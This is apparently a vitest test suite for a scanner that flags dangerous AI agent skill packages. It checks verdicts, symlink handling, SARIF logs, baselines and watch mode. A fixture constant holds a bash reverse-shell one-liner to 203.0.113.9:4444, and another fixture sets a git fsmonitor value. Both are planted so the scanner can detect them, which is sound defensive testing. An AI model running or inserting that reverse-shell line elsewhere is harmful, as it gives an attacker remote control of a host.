import { verdictWords, type Security } from '@skillstead/protocol'
import { execFile, spawn } from 'node:child_process'
import { once } from 'node:events'
import { chmod, link, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { dirname, join, relative } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { writeZip } from '@skillstead/skill-format/archives'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeFolder } from '../support/cli-harness.ts'
import { scanCommand, startScan } from '../support/scanner-command.ts'
import { findSarifFaults } from '../support/sarif-schema.ts'
import { sampleOf } from '../support/security-samples.ts'

const main = fileURLToPath(new URL('../../packages/scanner/src/main.ts', import.meta.url))
const dangerousLine = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'

interface Line extends Pick<Security, 'verdict' | 'findings' | 'cut'> {
  readonly id: string
  readonly known?: number
}

let folder: string
let baseline: string
beforeEach(async () => {
  folder = await makeFolder()
  baseline = at('baseline.json')
})

const at = (path: string) => join(folder, path)

async function write(path: string, text: string | Uint8Array = 'Nothing.\n'): Promise<void> {
  await mkdir(dirname(at(path)), { recursive: true })
  await writeFile(at(path), text)
}

const toObjects = (text: string) => text.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line)]))

/** The reports of a scan, and the notes and errors on standard error. */
async function scan(...args: string[]) {
  const { code, stdout, stderr } = await scanCommand([...args, '--json'])
  return { code, lines: toObjects(stdout) as Line[], notes: toObjects(stderr) as { id: string; note?: string }[] }
}

describe('skillstead-scan of paths', () => {
  it('scans several places, and continues after a place that does not exist', async () => {
    await write('a/SKILL.md', sampleOf('safe', 'a'))
    await write('c/SKILL.md', Buffer.from(`\uFEFF${sampleOf('dangerous', 'c')}`, 'utf16le'))
    await write('b.skill', writeZip([{ path: 'b/SKILL.md', bytes: Buffer.from(sampleOf('dangerous', 'b')) }]))
    const { code, lines, notes } = await scan(at('a'), at('none'), at('b.skill'), at('c'))
    expect(code).toBe(1)
    expect(lines.map(({ id, verdict }) => [id, verdict])).toEqual([
      [at('a/SKILL.md'), 'safe'],
      ['b/SKILL.md', 'dangerous'],
      [at('c/SKILL.md'), 'dangerous'],
    ])
    expect(notes).toEqual([{ id: at('none'), error: { code: 'unreadable', detail: 'It does not exist.' } }])
  })

  it('skips installed packages and version control folders, and reports each skipped folder', async () => {
    await write('a/SKILL.md', sampleOf('safe', 'a'))
    await write('a/node_modules/b/SKILL.md', sampleOf('dangerous', 'b'))
    await write('a/.git/hooks/post-commit', dangerousLine)
    const { lines, notes } = await scan(at('a'))
    expect(lines).toMatchObject([{ verdict: 'safe', cut: [] }])
    expect(notes).toEqual(['.git', 'node_modules'].map((name) => ({ id: at(`a/${name}`), note: 'left out.' })))
    // A repository inside of the skill is reported, also after more files than are read.
    for (let i = 0; i < 512; i++) await link(at('a/SKILL.md'), at(`a/${String(i).padStart(3, '0')}.md`))
    await write('a/tools/.git/config', '[core]\nfsmonitor = x\n')
    const found = (await scan(at('a'))).lines[0]!.findings.map(({ ruleId }) => ruleId)
    expect(found).toEqual(expect.arrayContaining(['git-folder', 'incomplete-scan']))
  })

  it('reads links to files in the scanned folder, and reports all other links as not scanned', async () => {
    await write('outside.sh', dangerousLine)
    await write('skills/shared.sh', dangerousLine)
    for (const name of ['in', 'out', 'nothing', 'folder'])
      await write(`skills/${name}/SKILL.md`, sampleOf('safe', name))
    await symlink('../shared.sh', at('skills/in/run.sh'))
    await symlink('../../outside.sh', at('skills/out/run.sh'))
    await symlink('missing.sh', at('skills/nothing/run.sh'))
    await symlink('../in', at('skills/folder/more'))
    await symlink('in', at('skills/other'))
    const { lines, notes } = await scan(at('skills'))
    expect(lines.map(({ id, verdict, cut }) => [relative(at('skills'), id), verdict, cut])).toEqual([
      ['folder/SKILL.md', 'caution', [{ path: 'more', reason: 'It is not a regular file.' }]],
      ['in/SKILL.md', 'dangerous', []],
      ['nothing/SKILL.md', 'caution', [{ path: 'run.sh', reason: 'It is a link to nothing.' }]],
      ['out/SKILL.md', 'caution', [{ path: 'run.sh', reason: 'It is a link out of the scanned folder.' }]],
    ])
    expect(notes).toEqual([{ id: at('skills/other'), note: 'a link to a folder, which is not followed.' }])
  })

  it('never calls a skill safe that has too many files, a file that is too large, or a named pipe', async () => {
    for (const name of ['many', 'large', 'pipe']) await write(`${name}/SKILL.md`, sampleOf('safe', name))
    for (let i = 0; i < 512; i++) await link(at('many/SKILL.md'), at(`many/${String(i).padStart(3, '0')}.md`))
    await write('large/data.txt', Buffer.alloc(10 * 1024 * 1024 + 1, 'a'))
    await promisify(execFile)('mkfifo', [at('pipe/input')])
    const { lines } = await scan(folder)
    expect(lines.map(({ verdict, cut }) => [verdict, cut.map(({ path, reason }) => `${path}: ${reason}`)])).toEqual([
      ['caution', ['data.txt: It is larger than 10 MiB, the maximum for a file.']],
      ['caution', ['511.md: The skill has more than 512 files; this one and the next were not read.']],
      ['caution', ['input: It is not a regular file.']],
    ])
  })

  it.skipIf(process.getuid?.() === 0)('reports files that it may not read, and scans the rest', async () => {
    for (const name of ['a', 'b', 'c/d']) await write(`${name}/SKILL.md`, sampleOf('safe', name.replace('/', '-')))
    await write('a/run.sh')
    for (const path of ['a/run.sh', 'b/SKILL.md', 'c']) await chmod(at(path), 0)
    const { code, lines, notes } = await scan(folder)
    await chmod(at('c'), 0o700)
    expect(code).toBe(1)
    expect(lines).toMatchObject([{ verdict: 'caution', cut: [{ path: 'run.sh' }] }])
    expect(notes.map(({ id }) => relative(folder, id))).toEqual(['b/SKILL.md', 'c'])
  })

  it('scans the remaining files of a folder from which files are being removed', async () => {
    for (let i = 0; i < 60; i++) await write(`s${i}/SKILL.md`, sampleOf('safe', `s${i}`))
    const [{ lines, notes }] = await Promise.all([
      scan(folder),
      ...Array.from({ length: 30 }, (_, i) => rm(at(`s${i * 2}`), { recursive: true })),
    ])
    const ids = new Set(lines.map(({ id }) => id))
    for (let i = 1; i < 60; i += 2) expect(ids).toContain(at(`s${i}/SKILL.md`))
    expect(notes.filter((note) => !JSON.stringify(note).includes('It vanished before it was read.'))).toEqual([])
  })

  it('with --enclosing, scans the skills that contain the given files, and each skill only once', async () => {
    await write('skills/a/SKILL.md', sampleOf('safe', 'a'))
    await write('skills/a/lib/run.sh', dangerousLine)
    await write('skills/b/SKILL.md', sampleOf('dangerous', 'b'))
    await write('notes.txt', dangerousLine)
    const files = ['skills/a/SKILL.md', 'skills/a/lib/run.sh', 'skills/a/lib/removed.sh', 'notes.txt'].map(at)
    const { code, lines, notes } = await scan('--enclosing', ...files, '--fail-on', 'dangerous')
    const ruleIds = ['reverse-shell']
    const findings = ruleIds.map((ruleId) => ({ ruleId, path: 'lib/run.sh' }))
    expect(lines).toMatchObject([{ verdict: 'dangerous', findings }])
    expect({ code, notes }).toEqual({ code: 1, notes: [] })
    expect(await scan('--enclosing', at('notes.txt'))).toEqual({ code: 0, lines: [], notes: [] })
  })
})

describe('skillstead-scan --sarif', () => {
  interface Log {
    readonly runs: readonly [{ readonly results: readonly object[]; readonly invocations: readonly object[] }]
  }

  async function scanSarif(...args: string[]) {
    const { code, stdout } = await scanCommand([...args, '--sarif', at('out.sarif')])
    const log = JSON.parse(await readFile(at('out.sarif'), 'utf8')) as Log
    expect(findSarifFaults(log)).toEqual([])
    return { code, stdout, log }
  }

  it('writes a valid log with the places of all findings, and prints the text as well', async () => {
    await write('skills/a b/skill.md', sampleOf('dangerous', 'a'))
    await write('skills/c/SKILL.md', sampleOf('safe', 'c'))
    const { stdout, log } = await scanSarif(at('skills'), '--fail-on', 'dangerous')
    expect(stdout).toContain('2 skills: 1 with no known sign of harm, 0 caution, 1 dangerous\n')
    const [{ results, invocations }] = log.runs
    const uri = new URL(`file://${at('skills/a b/skill.md')}`).href
    expect(results[0]).toMatchObject({
      ruleId: 'reverse-shell',
      level: 'error',
      locations: [{ physicalLocation: { artifactLocation: { uri }, region: { startLine: 8, startColumn: 6 } } }],
    })
    expect(log.runs).toMatchObject([{ properties: { skills: [{ verdict: 'dangerous' }, { verdict: 'safe' }] } }])
    expect(invocations[0]).toMatchObject({ executionSuccessful: true, toolExecutionNotifications: [] })
  })

  it('names files below the working directory relative to the root of the repository', async () => {
    await write('tools/x/SKILL.md', sampleOf('dangerous', 'x'))
    const { stdout } = await promisify(execFile)(process.execPath, ['--conditions=source', main, '.', '--sarif', '-'], {
      cwd: folder,
    })
    const log = JSON.parse(stdout) as Log
    expect(findSarifFaults(log)).toEqual([])
    const artifactLocation = { uri: 'tools/x/SKILL.md', uriBaseId: '%SRCROOT%' }
    expect(log.runs[0].results[0]).toMatchObject({ locations: [{ physicalLocation: { artifactLocation } }] })
  })

  it('names the archive as the location of findings in its files, and reports what was not scanned', async () => {
    const bytes = Buffer.from(sampleOf('dangerous', 'b'))
    await write('b.zip', writeZip([{ path: 'b/SKILL.md', bytes }]))
    await write('c/SKILL.md', sampleOf('safe', 'c'))
    await symlink('/etc/hosts', at('c/hosts'))
    const { code, log } = await scanSarif(at('b.zip'), at('c'), at('none'))
    expect(code).toBe(1)
    const [{ results, invocations }] = log.runs
    expect(results[0]).toMatchObject({
      locations: [
        {
          physicalLocation: { artifactLocation: { uri: `file://${at('b.zip')}` }, region: { startLine: 1 } },
          logicalLocations: [{ fullyQualifiedName: 'b/SKILL.md!/SKILL.md:8:6' }],
        },
      ],
    })
    expect(invocations[0]).toMatchObject({
      executionSuccessful: false,
      toolExecutionNotifications: [
        {
          level: 'warning',
          message: { text: 'hosts was not scanned completely. It is a link out of the scanned folder.' },
        },
        { level: 'error' },
      ],
    })
  })

  it('fails before the scan if the SARIF file cannot be written', async () => {
    await write('c/SKILL.md', sampleOf('safe', 'c'))
    const { code, stdout, stderr } = await scanCommand([at('c'), '--sarif', at('none/out.sarif')])
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' })
    expect(stderr).toMatch(/^The SARIF file .* cannot be written\.\n$/)
  })
})

const record = (...places: string[]) =>
  scanCommand([...places, '--write-baseline', baseline, '--reason', 'We wrote it.'])

describe('skillstead-scan --baseline', () => {
  it('leaves out known findings, even after they have moved, and judges the skill by the other findings', async () => {
    await write('a/SKILL.md', sampleOf('caution', 'a'))
    expect((await record(at('a'))).code).toBe(0)
    await write('a/SKILL.md', sampleOf('caution', 'a').replace('# Steps\n', '# Steps\n\nMore words.\n'))
    const { code, lines, notes } = await scan(at('a'), '--baseline', baseline, '--fail-on', 'caution')
    expect(lines).toMatchObject([{ verdict: 'safe', findings: [], known: 1 }])
    expect({ code, notes }).toEqual({ code: 0, notes: [] })
  })

  it('reports new findings, changed lines, and known findings that are gone', async () => {
    await write('a/SKILL.md', sampleOf('caution', 'a'))
    await record(at('a'))
    await write('a/SKILL.md', sampleOf('caution', 'a').replace('setup.sh', 'other.sh'))
    const { code, lines, notes } = await scan(at('a'), '--baseline', baseline, '--fail-on', 'caution')
    expect(lines).toMatchObject([{ verdict: 'caution', known: 0 }])
    expect(code).toBe(1)
    expect(notes).toMatchObject([
      { note: 'the baseline lists a finding of piped-remote-code that is no longer there.' },
    ])
  })

  it('keeps the verdict of a skill that was not scanned completely', async () => {
    await write('a/SKILL.md', sampleOf('safe', 'a'))
    await symlink('/etc/hosts', at('a/hosts'))
    await record(at('a'))
    const { lines } = await scan(at('a'), '--baseline', baseline)
    expect(lines).toMatchObject([{ verdict: 'caution', findings: [], known: 1 }])
  })

  it.each([
    ['', /is not JSON/],
    ['{"version":2,"findings":[]}', /`version` is missing or wrong/],
    ['{"version":1,"findings":[{"rule":"a","file":"b","passage":"c","reason":" "}]}', /`findings.0.reason`/],
    ['{"version":1,"findings":[{"rule":"a","file":"b","passage":"c"}]}', /needs a reason/],
  ])('refuses the baseline %j', async (text, problem) => {
    await write('baseline.json', text)
    const { code, stderr } = await scanCommand([folder, '--baseline', baseline])
    expect(code).toBe(1)
    expect(stderr).toMatch(problem)
  })
})

const toVerdict = (name: string, verdict: Security['verdict']) =>
  expect.stringContaining(`${name}/SKILL.md: ${verdictWords[verdict]},`)

describe('skillstead-scan --watch', () => {
  it('scans new and changed skills again, and only those, until it is interrupted', async () => {
    for (const name of ['a', 'b']) await write(`${name}/SKILL.md`, sampleOf('safe', name))
    const interruption = new AbortController()
    const running = startScan([folder, '--watch'], { signal: interruption.signal })
    const verdicts = () =>
      running
        .stdout()
        .split('\n')
        .slice(0, -1)
        .filter((line) => !line.startsWith(' '))
    const first = [toVerdict('a', 'safe'), toVerdict('b', 'safe')]
    await expect.poll(running.stderr).toContain('watching: 2 skills; end with Ctrl+C.\n')
    expect(verdicts()).toEqual(first)
    await write('b/lib/run.sh', dangerousLine)
    await expect.poll(verdicts).toEqual([...first, toVerdict('b', 'dangerous')])
    await write('c/SKILL.md', sampleOf('caution', 'c'))
    await expect.poll(verdicts).toEqual([...first, toVerdict('b', 'dangerous'), toVerdict('c', 'caution')])
    await rm(at('a'), { recursive: true })
    await expect.poll(running.stderr).toContain('is no longer a skill.')
    interruption.abort()
    expect(await running.code).toBe(0)
    expect(verdicts()).toHaveLength(4)
  })
})

describe('the output of skillstead-scan', () => {
  beforeEach(() => write('a/SKILL.md', sampleOf('dangerous', 'a')))

  it.each([
    [['stdout'], {}, true],
    [['stdout'], { NO_COLOR: '1' }, false],
    [[], { COLORTERM: 'truecolor' }, false],
  ] as const)('to the terminals %j with %j has colours: %s', async (terminals, env, expected) => {
    const { stdout } = await scanCommand([at('a')], { terminals, env: { TERM: 'xterm-256color', ...env } })
    expect(stdout.includes('\u001B[')).toBe(expected)
  })

  it('shows progress only on a terminal that does not show the reports', async () => {
    expect((await scanCommand([at('a')], { terminals: ['stderr'] })).stderr).toContain('\r1 scanned')
    for (const terminals of [[], ['stdout', 'stderr']] as const)
      expect((await scanCommand([at('a')], { terminals })).stderr).toBe('')
  })

  it('contains no control characters from the file names of a skill', async () => {
    await write('b/SKILL.md', sampleOf('caution', 'b'))
    await write('b/\u001B[2Jx\u202E.sh', dangerousLine)
    for (const args of [[at('b')], [at('b'), '--json']]) {
      const { stdout } = await scanCommand(args)
      expect(stdout).toContain('.sh')
      for (const control of ['\u001B', '\u202E']) expect(stdout).not.toContain(control)
    }
  })
})

describe('the command line of skillstead-scan', () => {
  it.each([
    [[], /^PATH is missing\./],
    [['--nonsense', '.'], /^Unknown option '--nonsense'\./],
    [['.', '--fail-on', 'safe'], /Use one of caution, dangerous\.$/m],
    [['.', '--json', '--sarif', '-'], /./],
    [['.', '--watch', '--fail-on', 'caution'], /./],
    [['-', '--watch'], /./],
    [['.', '--write-baseline', 'x.json'], /./],
    [['.', '--reason', 'x'], /./],
  ])('refuses %j with one sentence', async (args, sentence) => {
    const { code, stdout, stderr } = await scanCommand(args)
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
    expect(stderr).toMatch(sentence)
    expect(stderr.split('\n')).toHaveLength(2)
  })

  it('refuses URLs, because it uses no network', async () => {
    const { code, stderr } = await scanCommand(['https://example.com/SKILL.md'])
    expect(code).toBe(1)
    expect(stderr).toContain('uses no network')
  })

  it('shows its options and exit codes, and its version', async () => {
    const { code, stdout } = await scanCommand(['--help'])
    expect(code).toBe(0)
    for (const word of ['--sarif FILE', '--fail-on VERDICT', 'Exit codes: 0']) expect(stdout).toContain(word)
    expect((await scanCommand(['--version'])).stdout).toMatch(/^\d+\.\d+\.\d+\n$/)
  })

  it('scans standard input in a separate process', async () => {
    const child = spawn(process.execPath, ['--conditions=source', main, '-', '--fail-on', 'caution'])
    let stdout = ''
    child.stdout.on('data', (chunk: Buffer) => (stdout += String(chunk)))
    child.stdin.end(sampleOf('dangerous', 'piped'))
    expect(await once(child, 'close')).toEqual([1, null])
    expect(stdout).toMatch(/^-: dangerous, /)
  })

  it('refuses an endless standard input', async () => {
    const input = 'a'.repeat(10 * 1024 * 1024 + 1)
    const { code, stderr } = await scanCommand(['-'], { input })
    expect(code).toBe(1)
    expect(stderr).toContain('larger than 10 MiB')
  })
})
